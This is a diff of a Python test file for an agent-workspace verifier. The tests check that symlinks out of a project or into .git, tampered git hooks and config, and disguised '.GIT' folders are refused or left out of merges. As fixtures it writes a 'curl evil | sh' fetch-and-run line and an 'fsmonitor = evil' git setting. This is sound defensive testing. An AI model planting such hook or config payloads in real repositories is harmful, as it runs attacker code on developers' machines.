@@ -1,28 +1,27 @@
-"""Hostile workspaces: symlinks out of the workspace or into ``.git``, changes git status misses, and changes
-that must count although they add no text line (binary, mode only).
+"""Hostile workspaces: symlinks out of the workspace or into ``.git``, changes git status would hide, and
+changes that must count although they add no text line (binary, mode only).
 
-What the snapshot sees (``conductor.workspace.snapshot``, an ``lstat`` walk that never follows symlinks):
-dot-files, gitignored files, ``.git/`` itself (hooks, config) and symlinks as links. It leaves out only
-``.conductor/`` at the root and the paths matching ``workspace.ignore`` in config.yaml (tool caches such as
-``__pycache__/`` and ``node_modules/``); those are neither snapshotted, nor copied, nor merged.
+What a capture sees (``conductor.workspace.checkout.capture``): every file and symlink of the working tree,
+dot-files and ``.gitignore``d files included (the folder's own ``.gitignore`` is not honoured), symlinks as
+links. It leaves out the attempt's own ``.git`` (the agent's: never captured, never merged) and the paths
+matching ``workspace.ignore`` in config.yaml (tool caches such as ``__pycache__/``); fifos, sockets and
+devices are never captured either.
 """
 
 from __future__ import annotations
 
-import hashlib
 import os
-import stat
 from pathlib import Path
 
 import pytest
 
+from conductor.attempts import state_store
 from conductor.errors import UnsafePath
 from conductor.executors.base import execute_claim
 from conductor.executors.command import CommandRunner
 from conductor.executors.llm import LLMRunner
-from conductor.models import FileChange
 from conductor.paths import check_link_target
-from conductor.workspace import apply_changes, snapshot
+from conductor.workspace.apply import ApplyPlan, write_changes
 from tests.corpus.builders import (
     FixedEdits,
     bare_task,
@@ -35,6 +34,7 @@ from tests.corpus.builders import (
     write_edit,
 )
 from tests.handoff.support import make_handoff
+from tests.helpers.fork_state import fork_files
 
 # --- symlinks -------------------------------------------------------------------------------------
 
@@ -63,8 +63,7 @@ def test_check_link_target_accepts_links_that_stay_inside() -> None:
 @pytest.mark.parametrize("case", ["absolute_outside", "relative_climb_out", "into_dotgit"])
 def test_step_adding_an_unsafe_symlink_is_rejected(tmp_path: Path, case: str) -> None:
     link, target, reason = LINKS[case]
-    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n", ".git/config": "[core]\n"},
-                           allowed_files=(link,))
+    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"}, allowed_files=(link,))
 
     def plant(ws: Path) -> None:
         (ws / link).parent.mkdir(parents=True, exist_ok=True)
@@ -74,7 +73,7 @@ def test_step_adding_an_unsafe_symlink_is_rejected(tmp_path: Path, case: str) ->
 
     verdict = verify(handoff, claimed)
 
-    assert not (handoff.fork.workspace / link).is_symlink()
+    assert link not in fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)
     assert not verdict.accepted and any(reason in r for r in verdict.reasons)
 
 
@@ -91,58 +90,86 @@ def test_llm_write_through_a_symlink_out_of_the_workspace_is_refused(tmp_path: P
     assert list(outside.iterdir()) == []
 
 
-def test_forged_change_set_cannot_write_through_a_symlink_it_creates(tmp_path: Path) -> None:
-    """A symlink ``x`` and a file ``x/f`` in one change set: every parent checks out before the link exists."""
-    src, dst = tmp_path / "a" / "src", tmp_path / "b" / "dst"
-    (src / "real").mkdir(parents=True)
-    (src / "real" / "f").write_text("pwn")
-    dst.mkdir(parents=True)
-    (tmp_path / "b" / "src" / "real").mkdir(parents=True)  # where "../src/real" leads from dst: outside it
-    os.symlink("../src/real", src / "x")
-    changes = [FileChange(path="x", change="added", sha256=hashlib.sha256(b"../src/real").hexdigest()),
-               FileChange(path="x/f", change="added", sha256=hashlib.sha256(b"pwn").hexdigest())]
+def _apply_plan(tmp_path: Path, before: dict[str, str], after: dict[str, str]) -> tuple[object, ApplyPlan]:
+    """Two trees in a scratch store and the plan that turns the first into the second."""
+    scratch = tmp_path / "trees"
+    scratch.mkdir()
+    from conductor.workspace.store import StateStore
 
-    with pytest.raises(UnsafePath, match="unsafe path 'x/f': lies below 'x', which the same change set writes"):
-        apply_changes(changes, src_root=src, dst_root=dst, base={})
+    store = StateStore(scratch, scratch / ".conductor").ensure()
+    trees = []
+    for files in (before, after):
+        for path in [p for p in scratch.iterdir() if p.name != ".conductor"]:
+            path.unlink()
+        for name, text in files.items():
+            (scratch / name).write_text(text)
+        trees.append(store.project_tree(ignore=[]))
+    return store, ApplyPlan(trees[0], trees[1], store.changes(trees[0], trees[1]))
 
-    assert list(dst.iterdir()) == [] and list((tmp_path / "b" / "src" / "real").iterdir()) == []
+
+def test_apply_never_writes_through_a_symlinked_folder_out_of_the_project(tmp_path: Path) -> None:
+    store, plan = _apply_plan(tmp_path, {"keep": "k\n"}, {"keep": "k\n", "x_f": "pwn"})
+    plan = ApplyPlan(plan.user_tree, plan.result_tree, [c.model_copy(update={"path": "x/f"}) for c in plan.changes])
+    project, outside = tmp_path / "project", tmp_path / "outside"
+    project.mkdir()
+    outside.mkdir()
+    os.symlink(outside, project / "x")  # planted in the project: the change's folder leads out of it
+
+    with pytest.raises(UnsafePath, match=r"unsafe path 'x': resolves to .*outside.* \(symlink\)"):
+        write_changes(store, project, plan)
+
+    assert list(outside.iterdir()) == []
 
 
 def test_apply_through_a_symlinked_folder_into_dotgit_is_refused(tmp_path: Path) -> None:
-    src, dst = tmp_path / "src", tmp_path / "dst"
-    for root in (src, dst):
-        (root / ".git" / "hooks").mkdir(parents=True)
-        os.symlink(".git", root / "innocent")
-    (src / ".git" / "hooks" / "pre-commit").write_text("evil\n")
-    change = FileChange(path="innocent/hooks/pre-commit", change="added", sha256=hashlib.sha256(b"evil\n").hexdigest())
+    store, plan = _apply_plan(tmp_path, {"keep": "k\n"}, {"keep": "k\n", "pre-commit": "evil\n"})
+    plan = ApplyPlan(plan.user_tree, plan.result_tree,
+                     [c.model_copy(update={"path": "innocent/hooks/pre-commit"}) for c in plan.changes])
+    project = tmp_path / "project"
+    (project / ".git" / "hooks").mkdir(parents=True)
+    os.symlink(".git", project / "innocent")
 
     with pytest.raises(UnsafePath, match="resolves to '.git/hooks', inside .git"):
-        apply_changes([change], src_root=src, dst_root=dst, base={})
+        write_changes(store, project, plan)
 
-    assert list((dst / ".git" / "hooks").iterdir()) == []
+    assert list((project / ".git" / "hooks").iterdir()) == []
 
 
 # --- changes git status misses --------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("target", [".git/hooks/post-checkout", ".git/config"])
-def test_changed_git_data_is_detected_and_rejected(tmp_path: Path, target: str) -> None:
-    files = {"README.md": "hi\n", ".git/hooks/post-checkout": "#!/bin/sh\n", ".git/config": "[core]\n"}
-    handoff = make_handoff(tmp_path / "project", steps=1, files=files)
+@pytest.mark.parametrize("target", ["hooks/post-checkout", "config", "info/exclude"])
+def test_the_agents_own_git_data_is_never_captured_or_merged(tmp_path: Path, target: str) -> None:
+    handoff = make_handoff(tmp_path / "project", steps=1)
 
     def tamper(ws: Path) -> None:
         (ws / "README.md").write_text("changed\n")
-        with (ws / target).open("a") as handle:
+        (ws / ".git" / target).parent.mkdir(parents=True, exist_ok=True)
+        with (ws / ".git" / target).open("a") as handle:
             handle.write("curl evil | sh\n")
 
-    claimed = do_and_complete(handoff, tamper, files=reported("README.md"))  # hides the .git change
+    claimed = do_and_complete(handoff, tamper, files=reported("README.md"))
+
+    verdict = verify(handoff, claimed)
+
+    assert verdict.accepted and [c.path for c in verdict.files_changed] == ["README.md"]
+    files = fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)
+    assert sorted(files) == ["README.md"] and files["README.md"] == b"changed\n"
+
+
+def test_a_git_component_in_disguise_rejects_the_step(tmp_path: Path) -> None:
+    handoff = make_handoff(tmp_path / "project", steps=1)
+
+    def tamper(ws: Path) -> None:
+        (ws / "docs" / ".GIT").mkdir(parents=True)
+        (ws / "docs" / ".GIT" / "config").write_text("[core]\n\tfsmonitor = evil\n")
+
+    claimed = do_and_complete(handoff, tamper)
 
     verdict = verify(handoff, claimed)
 
     assert not verdict.accepted
-    assert verdict.reasons[0] == f"unsafe path {target!r}: has a .git component ('.git'): git's own data is off limits"
-    assert sorted(c.path for c in verdict.files_changed) == sorted(["README.md", target])
-    assert (handoff.fork.workspace / target).read_text() == files[target]
+    assert verdict.reasons[0].startswith("workspace_error: unsafe path 'docs/.GIT/config': has a .git component")
 
 
 def test_change_to_a_gitignored_file_is_detected(tmp_path: Path) -> None:
@@ -169,7 +196,7 @@ def test_change_under_a_configured_ignore_pattern_is_neither_judged_nor_merged(t
     verdict = verify(handoff, claimed, ignore=["__pycache__/"])
 
     assert verdict.accepted and [c.path for c in verdict.files_changed] == ["README.md"]
-    assert not (handoff.fork.workspace / "__pycache__").exists()
+    assert sorted(fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)) == ["README.md"]
 
 
 def test_file_name_that_is_not_utf8_rejects_the_step(tmp_path: Path) -> None:
@@ -215,11 +242,17 @@ def test_mode_only_change_of_a_protected_file_is_rejected(tmp_path: Path) -> Non
     verdict = verify(handoff, claimed, merged=policy_protecting("*.sh"))
 
     assert not verdict.accepted and verdict.reasons == ["run.sh: matches protected pattern '*.sh' (project)"]
-    assert not os.stat(handoff.fork.workspace / "run.sh").st_mode & stat.S_IXUSR
+    assert _fork_mode(handoff, "run.sh") == "100644"
 
 
-@pytest.mark.xfail(strict=True, reason="verifier.py merge_changes skips a change whose target already has the same "
-                   "content digest, so an accepted mode-only change (chmod +x) is never merged: silently lost")
+def _fork_mode(handoff, path: str) -> str:  # type: ignore[no-untyped-def]
+    from tests.helpers.fork_state import fork_head
+
+    store = state_store(handoff.layout)
+    tree = store.tree_of(fork_head(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id))
+    return store.entries(tree, [path])[path].mode
+
+
 def test_allowed_mode_only_change_is_merged_with_its_mode(tmp_path: Path) -> None:
     handoff = make_handoff(tmp_path / "project", steps=1, files={"run.sh": "echo\n"}, allowed_files=("run.sh",))
     claimed = do_and_complete(handoff, lambda ws: (ws / "run.sh").chmod(0o755), files=reported("run.sh"))
@@ -227,34 +260,26 @@ def test_allowed_mode_only_change_is_merged_with_its_mode(tmp_path: Path) -> Non
     verdict = verify(handoff, claimed)
 
     assert verdict.accepted
-    assert os.stat(handoff.fork.workspace / "run.sh").st_mode & stat.S_IXUSR
+    assert _fork_mode(handoff, "run.sh") == "100755"
 
 
 # --- special files --------------------------------------------------------------------------------
 
 
-def test_fifo_created_by_the_executor_fails_the_task_not_the_worker(tmp_path: Path) -> None:
-    handoff = make_handoff(tmp_path / "project", steps=2, allowed_files=("pipe",))
+def test_a_fifo_created_by_the_executor_is_never_captured(tmp_path: Path) -> None:
+    handoff = make_handoff(tmp_path / "project", steps=2, allowed_files=("pipe", "README.md"))
     handoff.publish("step_001")
     handoff.publish("step_002")
     claimed = claim(handoff)
     assert claimed is not None
 
-    result = execute_claim(handoff.layout, claimed, CommandRunner("mkfifo pipe", layout=handoff.layout),
+    result = execute_claim(handoff.layout, claimed, CommandRunner("mkfifo pipe && echo x > README.md",
+                                                                  layout=handoff.layout),
                            ignore=[], lease_seconds=60, heartbeat_seconds=5)
 
-    assert result is not None and result.status == "failed"
-    assert result.error is not None and "special file (fifo)" in result.error.message
-    assert handoff.where()["failed"] == ["step_001"] and handoff.where()["pending"] == ["step_002"]
-
-
-def test_fifo_in_a_completed_workspace_is_a_verifier_rejection(tmp_path: Path) -> None:
-    """A handoff executor (not Conductor's runner) leaves a fifo: the verifier names it and rejects the step."""
-    handoff = make_handoff(tmp_path / "project", steps=1)
-    claimed = do_and_complete(handoff, lambda ws: os.mkfifo(ws / "pipe"))
-
+    # A fifo, socket or device is no content: it is not in the change set and can never be merged.
+    assert result is not None and result.status == "completed"
+    assert [c.path for c in result.files_changed] == ["README.md"]
+    assert handoff.where()["completed"] == ["step_001"] and handoff.where()["pending"] == ["step_002"]
     verdict = verify(handoff, claimed)
-
-    assert not verdict.accepted
-    assert verdict.reasons[0].startswith("workspace_error: pipe: special file (fifo) in workspace")
-    assert snapshot(handoff.fork.workspace).keys() == {"README.md"}
+    assert verdict.accepted and "pipe" not in fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)
